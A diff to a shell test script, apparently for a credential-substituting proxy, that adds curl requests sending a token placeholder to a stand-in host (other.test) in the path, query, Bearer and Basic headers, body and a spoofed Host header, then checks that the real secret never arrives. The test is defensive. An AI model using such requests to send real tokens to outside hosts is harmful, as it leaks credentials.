@@ -112,11 +112,18 @@ cases() {
 
     # another host: placeholders untouched, named in the log, counted
     rm -f "$SH/rec/"*
-    out=$(sr "$S" -- sh -c 'printf "P=%s\n" "$TOKEN"; curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" "https://other.test:'"$PA"'/x?q=$TOKEN" -o /dev/null; echo done' 2>&1)
+    out=$(sr "$S" -- sh -c 'printf "P=%s\n" "$TOKEN"; u=https://other.test:'"$PA"'
+        curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" "$u/x/$TOKEN?q=$TOKEN" -o /dev/null
+        curl -sS --max-time 10 -u "x-access-token:$TOKEN" "$u/basic" -o /dev/null
+        curl -sS --max-time 10 -H "Host: inj.test" -H "X-Tok: $TOKEN" "$u/hosthdr" -o /dev/null
+        printf "%s" "$TOKEN" > /tmp/b; curl -sS --max-time 10 --data-binary @/tmp/b "$u/cl" -o /dev/null; echo done' 2>&1)
     r=$(rec) P=$(sed -n 's/^P=//p' <<<"$out")
     if grep -q "^H authorization: Bearer $P" <<<"$r" && ! grep -qF "$REAL" <<<"$r" &&
+        grep -q "^LINE GET /x/$P?q=$P " <<<"$r" && grep -q "^H x-tok: $P" <<<"$r" &&
+        grep -q "^H authorization: Basic $(printf 'x-access-token:%s' "$P" | base64 -w0)" <<<"$r" &&
+        grep -q "^BODYDATA $P" <<<"$r" &&
         grep -q "secret_placeholder=TOKEN" "$log" && grep -q "placeholder of TOKEN went to a host outside" <<<"$out"; then
-        ok "at other.test the placeholder arrives untouched; the decision record names it (secret_placeholder=TOKEN) and the summary counts it"
+        ok "at other.test every site (path, query, header, Basic, body; also with a Host header naming inj.test) carries the placeholder untouched; the decision record names it (secret_placeholder=TOKEN) and the summary counts it"
     else bad "placeholder at another host" "$(sed "s/$REAL/<REAL>/g; s/$P/<P>/g" <<<"$r$out")"; fi
 
     # fail closed: plain HTTP to the credential's host, and a host excluded from termination
